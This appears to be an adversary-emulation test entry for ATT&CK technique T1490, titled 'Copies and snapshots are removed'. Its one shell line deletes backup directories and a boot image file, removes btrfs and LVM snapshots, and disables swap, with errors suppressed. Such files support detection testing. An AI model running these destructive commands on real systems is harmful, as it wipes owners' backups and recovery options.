# title: Copies and snapshots are removed
# technique: T1490

rm -rf /var/backups /srv/backup; rm -f /boot/initrd.img-test; btrfs subvolume delete /srv/.snapshots/1 2>/dev/null; lvremove -f vg/snap 2>/dev/null; swapoff -a 2>/dev/null; true
